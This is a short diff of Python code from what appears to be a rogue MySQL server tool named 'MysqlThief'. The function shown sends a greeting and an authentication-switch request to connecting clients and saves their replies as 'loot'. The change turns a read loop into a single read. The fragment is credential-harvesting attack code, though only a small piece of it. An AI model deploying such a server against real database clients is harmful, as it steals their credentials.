@@ -67,7 +67,7 @@ def _ask(connection: socket.socket, thief: MysqlThief) -> None:
     _send(connection, 0, greeting)
     thief.loot.append(connection.recv(65536))
     _send(connection, 2, b"\xfe" + thief.way.encode() + b"\0" + _SALT + b"\0")
-    while got := connection.recv(65536):
+    if got := connection.recv(65536):
         thief.loot.append(got)
 
 
